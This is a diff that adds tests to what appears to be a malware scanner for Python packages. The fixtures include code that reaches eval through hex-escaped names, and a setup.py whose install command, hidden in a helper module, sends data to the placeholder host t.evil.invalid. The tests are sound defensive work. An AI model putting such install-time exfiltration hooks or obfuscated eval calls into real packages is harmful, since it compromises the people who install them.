@@ -97,3 +97,24 @@ def test_browser_cookie_library_is_not_a_stealer(tmp_path: Path) -> None:
     )
     found = scan(make_wheel(tmp_path, "cookiejar", "1.0", {"cookiejar/__init__.py": source}), tmp_path)
     assert not [f for f in found if f.severity >= Severity.HIGH]
+
+
+def test_builtins_reached_through_eval_of_their_names(tmp_path: Path) -> None:
+    source = '_e = eval("\\x65\\x76\\x61\\x6c")\n_c = _e("compile")\nx, y = exec, str\n'
+    hit = top(scan(make_wheel(tmp_path, "loader", "1.0", {"loader/__init__.py": source}), tmp_path))
+    assert (hit.rule_id, hit.severity) == ("CW215", Severity.HIGH)
+
+
+def test_install_command_in_a_helper_module_posts_data(tmp_path: Path) -> None:
+    files = {
+        "setup.py": "from helpers import cmds\nfrom setuptools import setup\nsetup(name='z', cmdclass=cmds)\n",
+        "helpers/__init__.py": "from helpers.commands import Post\ncmds = {'install': Post}\n",
+        "helpers/commands.py": (
+            "import urllib.request\nfrom setuptools.command.install import install\n\n"
+            "class Post(install):\n    def run(self):\n"
+            "        urllib.request.urlopen('https://t.evil.invalid/i', data=b'installed')\n"
+        ),
+    }
+    hit = top(scan(make_sdist(tmp_path, "z", "1.0", files), tmp_path))
+    assert (hit.rule_id, hit.trigger) == ("CW207", Trigger.INSTALL)
+    assert hit.severity is Severity.HIGH
